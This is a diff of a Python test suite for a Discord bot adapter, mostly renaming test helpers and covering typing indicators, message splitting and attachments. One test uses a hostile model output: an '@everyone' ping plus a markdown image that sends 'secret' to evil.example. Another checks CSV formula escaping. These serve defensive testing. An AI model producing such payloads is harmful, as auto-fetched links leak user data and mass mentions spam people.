@@ -10,7 +10,7 @@ from adapters.discord import surface
 from core.chat.presence import SOON
 from core.domain.records import Ask
 from tests.discord.house import House
-from tests.fakes.discord import FakeDiscord, Somebody
+from tests.fakes.discord import DiscordPerson, FakeDiscord
 from tests.fakes.discord.world import Payload
 from tests.fakes.loop_clock import LoopClock, run_ready
 
@@ -32,7 +32,7 @@ class Gate:
 
 
 async def test_a_model_that_thinks_is_seen_to_before_its_first_word(
-    discord: FakeDiscord, house: House, ana: Somebody, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, house: House, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     assert 0.3 < SOON < 0.8, "seconds; a quicker answer needs no sign"
     monkeypatch.setattr(surface, "SOON", 3.0)
@@ -42,13 +42,13 @@ async def test_a_model_that_thinks_is_seen_to_before_its_first_word(
     await gate.reached.wait()
     assert not ana.dm.typing
     LoopClock().skip(3.0)
-    await discord.until(lambda: ana.dm.typing)
+    await discord.wait_until(lambda: ana.dm.typing)
     gate.open()
-    await ana.reads("You said: hello")
+    await ana.wait_for_text("You said: hello")
 
 
 async def test_the_sign_is_renewed_until_the_answer_stands(
-    discord: FakeDiscord, house: House, ana: Somebody, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, house: House, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr("core.chat.posting.PROMPT", 60.0)  # the answer is posted whole
     monkeypatch.setattr(surface.ChannelSurface, "interval", 60.0)
@@ -56,24 +56,24 @@ async def test_the_sign_is_renewed_until_the_answer_stands(
     gate = Gate(house)
     await house.open()
     await ana.say("hello")
-    await discord.until(lambda: len(ana.dm.typing) > 5)
+    await discord.wait_until(lambda: len(ana.dm.typing) > 5)
     discord.refuse("POST", "/channels/*/messages", 429, 40062)
     monkeypatch.setattr("adapters.discord.client.AGAIN", 3.0)
     gate.open()
-    await discord.until(lambda: not discord.faults.waiting)
+    await discord.wait_until(lambda: not discord.faults.waiting)
     typed = len(ana.dm.typing)
-    await discord.until(lambda: len(ana.dm.typing) > typed + 1)  # nothing stands yet
+    await discord.wait_until(lambda: len(ana.dm.typing) > typed + 1)  # nothing stands yet
     LoopClock().skip(3.0)
-    await ana.reads("You said: hello")
+    await ana.wait_for_text("You said: hello")
     typed = len(ana.dm.typing)
     monkeypatch.setattr(surface, "SOON", 60.0)
     await ana.say("next")
-    await ana.reads("You said: next")
+    await ana.wait_for_text("You said: next")
     assert len(ana.dm.typing) <= typed + 1, "the first turn types no more"
 
 
 async def test_text_that_does_not_grow_is_no_sign(
-    discord: FakeDiscord, house: House, ana: Somebody, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, house: House, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(surface, "STILL", 0.3)
     monkeypatch.setattr(surface, "AGAIN", 0.05)
@@ -81,72 +81,72 @@ async def test_text_that_does_not_grow_is_no_sign(
     house.model.pauses = asyncio.Queue()
     await house.open()
     await ana.say("tell me")
-    await ana.reads("one")
+    await ana.wait_for_text("one")
     typed = len(ana.dm.typing) + 1  # one may have been on its way
-    await discord.until(lambda: len(ana.dm.typing) > typed)
+    await discord.wait_until(lambda: len(ana.dm.typing) > typed)
     house.model.go_on()
-    await ana.reads("one two")
+    await ana.wait_for_text("one two")
 
 
 async def test_an_answer_that_comes_at_once_needs_no_sign(
-    discord: FakeDiscord, house: House, ana: Somebody, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, house: House, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(surface, "SOON", 60.0)
     await house.open()
     await ana.say("hello")
-    await ana.reads("You said: hello")
+    await ana.wait_for_text("You said: hello")
     assert not ana.dm.typing
 
 
 async def test_while_a_thread_is_being_made_the_sign_shows_where_the_question_stands(
-    discord: FakeDiscord, house: House, ana: Somebody
+    discord: FakeDiscord, house: House, ana: DiscordPerson
 ) -> None:
     channel = discord.text_channel(discord.guild("Bolts", ana), "general")
     gate = Gate(house)
     making = discord.hold("POST", "/channels/*/threads")
     await house.open()
     question = await ana.mention("bolts?", channel)
-    await discord.until(lambda: channel.typing)
+    await discord.wait_until(lambda: channel.typing)
     making.release()
     gate.open()
-    await discord.until(lambda: int(question["id"]) in discord.world.channels)
-    await ana.reads("You said: bolts?", discord.world.channels[int(question["id"])])
+    await discord.wait_until(lambda: int(question["id"]) in discord.world.channels)
+    await ana.wait_for_text("You said: bolts?", discord.world.channels[int(question["id"])])
 
 
 async def test_a_command_whose_token_ends_shows_typing_in_its_channel(
-    discord: FakeDiscord, house: House, ana: Somebody
+    discord: FakeDiscord, house: House, ana: DiscordPerson
 ) -> None:
     gate = Gate(house)
     discord.interactions.deadline = -1.0
     await house.open()
     await house.ready()
     await ana.slash("ask", prompt="hello")
-    await discord.until(lambda: ana.dm.typing)
+    await discord.wait_until(lambda: ana.dm.typing)
     gate.open()
-    await ana.reads("You said: hello")
+    await ana.wait_for_text("You said: hello")
 
 
 async def test_what_is_private_shows_no_typing_to_others(
-    discord: FakeDiscord, house: House, ana: Somebody
+    discord: FakeDiscord, house: House, ana: DiscordPerson
 ) -> None:
     channel = discord.text_channel(discord.guild("Bolts", ana), "general")
     await house.open()
     await house.ready()
     exchange = await ana.slash("status", channel)
-    await exchange.answered()
+    await exchange.wait_for_answer()
     assert exchange.ephemeral
     assert not channel.typing
 
 
 async def test_a_turn_that_is_put_back_types_no_more(
-    discord: FakeDiscord, house: House, ana: Somebody, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, house: House, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(surface, "SOON", 0.01)
     monkeypatch.setattr(surface, "AGAIN", 0.02)
     gate = Gate(house)
     await house.open()
     await ana.say("hello")
-    await discord.until(lambda: ana.dm.typing)
+    await discord.wait_until(lambda: ana.dm.typing)
     await house.engine.drain(0.0)
     typed, clock = len(ana.dm.typing), LoopClock()
     for _ in range(3):
@@ -156,29 +156,31 @@ async def test_a_turn_that_is_put_back_types_no_more(
     gate.open()
     await house.close()
     await house.open()
-    await ana.reads("You said: hello")
+    await ana.wait_for_text("You said: hello")
 
 
 async def test_a_message_that_waits_wears_an_hourglass(
-    discord: FakeDiscord, house: House, ana: Somebody, monkeypatch: pytest.MonkeyPatch
+    discord: FakeDiscord, house: House, ana: DiscordPerson, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(surface, "PATIENCE", 0.05)
     house.model.script = {"tell me": ["one", " two"]}
     house.model.pauses = asyncio.Queue()
     await house.open()
     first = await ana.say("tell me")
-    await ana.reads("one")
+    await ana.wait_for_text("one")
     waiting = await ana.say("and then?")
     glass = "⏳"
-    await discord.until(lambda: ("PUT", int(waiting["id"]), glass) in discord.rest.reactions)
+    await discord.wait_until(lambda: ("PUT", int(waiting["id"]), glass) in discord.rest.reactions)
     house.model.go_on()
-    await ana.reads("You said: and then?")
-    await discord.until(lambda: ("DELETE", int(waiting["id"]), glass) in discord.rest.reactions)
+    await ana.wait_for_text("You said: and then?")
+    await discord.wait_until(
+        lambda: ("DELETE", int(waiting["id"]), glass) in discord.rest.reactions
+    )
     assert not [r for r in discord.rest.reactions if r[1] == int(first["id"])]
 
 
 async def test_an_answer_grows_by_edits_that_are_never_queued(
-    discord: FakeDiscord, house: House, ana: Somebody
+    discord: FakeDiscord, house: House, ana: DiscordPerson
 ) -> None:
     words = [f"word{n} " for n in range(200)]
     house.model.script = {"tell me": words}
@@ -187,42 +189,42 @@ async def test_an_answer_grows_by_edits_that_are_never_queued(
     loop = asyncio.get_running_loop()
     began = loop.time()
     await ana.say("tell me")
-    await ana.reads("word0")
+    await ana.wait_for_text("word0")
     for _ in words[:120]:
         house.model.go_on()
-    await ana.reads("word100")
+    await ana.wait_for_text("word100")
     for _ in words:
         house.model.go_on()
-    answer = await ana.reads("word199")
+    answer = await ana.wait_for_text("word199")
     took = loop.time() - began
-    assert len(discord.world.said_by(discord.world.me.id)) == 1
+    assert len(discord.world.messages_by(discord.world.me.id)) == 1
     assert answer["edits"] <= took / surface.INTERVAL + 2
 
 
 async def test_a_long_answer_comes_in_parts_with_whole_code_blocks(
-    house: House, ana: Somebody
+    house: House, ana: DiscordPerson
 ) -> None:
     code = "\n".join(f"line_{n} = {n}" for n in range(200))
     house.model.script = {"tell me": [f"Here:\n\n```python\n{code}\n```\n\nDone."]}
     await house.open()
     await ana.say("tell me")
-    seen = await ana.sees(lambda seen: seen and seen[-1]["content"].endswith("Done."))
+    seen = await ana.wait_for_messages(lambda seen: seen and seen[-1]["content"].endswith("Done."))
     assert len(seen) == 2
     for part in seen:
         assert len(part["content"]) <= 2000
         assert part["content"].count("```") % 2 == 0
     assert "```python\n" in seen[1]["content"]
-    await ana.discord.until(lambda: not any(buttons(part) for part in seen))
+    await ana.discord.wait_until(lambda: not any(buttons(part) for part in seen))
 
 
-async def test_a_very_long_answer_ends_in_a_file(house: House, ana: Somebody) -> None:
+async def test_a_very_long_answer_ends_in_a_file(house: House, ana: DiscordPerson) -> None:
     long = "\n\n".join(f"paragraph {n} " + "x" * 900 for n in range(20))
     house.model.script = {"tell me": [long]}
     await house.open()
     await ana.say("tell me")
-    last = await ana.reads("The whole answer is in `answer.md`")
-    await ana.discord.until(lambda: last["attachments"])
-    seen = ana.discord.world.said_by(ana.discord.world.me.id)
+    last = await ana.wait_for_text("The whole answer is in `answer.md`")
+    await ana.discord.wait_until(lambda: last["attachments"])
+    seen = ana.discord.world.messages_by(ana.discord.world.me.id)
     assert len(seen) == 4
     assert all(len(part["content"]) <= 2000 for part in seen)
     (file,) = last["attachments"]
@@ -230,15 +232,15 @@ async def test_a_very_long_answer_ends_in_a_file(house: House, ana: Somebody) ->
 
 
 async def test_a_wide_table_comes_as_records_and_a_long_one_as_a_file(
-    house: House, ana: Somebody
+    house: House, ana: DiscordPerson
 ) -> None:
     rows = "\n".join(f"| {n} | Ana {n} | Lisboa | =1+1 |" for n in range(60))
     table = f"| id | name | city | note |\n|---|---|---|---|\n{rows}"
     house.model.script = {"show": [f"Your customers:\n\n{table}"]}
     await house.open()
     await ana.say("show")
-    answer = await ana.reads("57 more rows in `table-1.csv`")
-    await ana.discord.until(lambda: answer["attachments"])
+    answer = await ana.wait_for_text("57 more rows in `table-1.csv`")
+    await ana.discord.wait_until(lambda: answer["attachments"])
     assert "**id: 0**\nname: Ana 0\ncity: Lisboa" in answer["content"]
     assert "|" not in answer["content"]
     (file,) = answer["attachments"]
@@ -247,12 +249,14 @@ async def test_a_wide_table_comes_as_records_and_a_long_one_as_a_file(
     assert csv[60] == "59,Ana 59,Lisboa,'=1+1"
 
 
-async def test_model_text_mentions_nobody_and_fetches_nothing(house: House, ana: Somebody) -> None:
+async def test_model_text_mentions_nobody_and_fetches_nothing(
+    house: House, ana: DiscordPerson
+) -> None:
     evil = "@everyone <@123456789012345678> ![x](https://evil.example/?q=secret)"
     house.model.script = {"say it": [evil]}
     await house.open()
     await ana.say("say it")
-    answer = await ana.reads("evil.example")
+    answer = await ana.wait_for_text("evil.example")
     assert "@everyone" not in answer["content"]
     assert "<@1" not in answer["content"]
     assert "<https://evil.example/?q=secret>" in answer["content"]
@@ -260,27 +264,27 @@ async def test_model_text_mentions_nobody_and_fetches_nothing(house: House, ana:
 
 
 async def test_files_in_are_kept_by_their_own_name_and_the_large_one_is_not_read(
-    discord: FakeDiscord, house: House, ana: Somebody
+    discord: FakeDiscord, house: House, ana: DiscordPerson
 ) -> None:
     await house.open()
     large = b"x" * (21 * 1024 * 1024)
     await ana.say("look", files=[("relatório.csv", b"a,b\n1,2\n"), ("film.mp4", large)])
-    await ana.reads("You said: look")
+    await ana.wait_for_text("You said: look")
     item = house.model.asks[0].input[-1]
     assert [file.name for file in item.files] == ["relatório.csv"]
     assert "film.mp4 could not be fetched" in item.text
-    _, data = await house.engine.files.get(item.files[0].id)
+    _, data = await house.engine.records.files.get(item.files[0].id)
     assert data == b"a,b\n1,2\n"
     assert discord.downloads == 1
 
 
 async def test_a_file_that_the_cdn_does_not_give_does_not_take_the_turn(
-    discord: FakeDiscord, house: House, ana: Somebody
+    discord: FakeDiscord, house: House, ana: DiscordPerson
 ) -> None:
     await house.open()
     discord.refuse("GET", "/cdn/*", 404, times=9)
     await ana.say("look", files=[("a.csv", b"1")])
-    answer = await ana.reads("a.csv could not be fetched")
+    answer = await ana.wait_for_text("a.csv could not be fetched")
     assert "You said: look" in answer["content"]
 
 
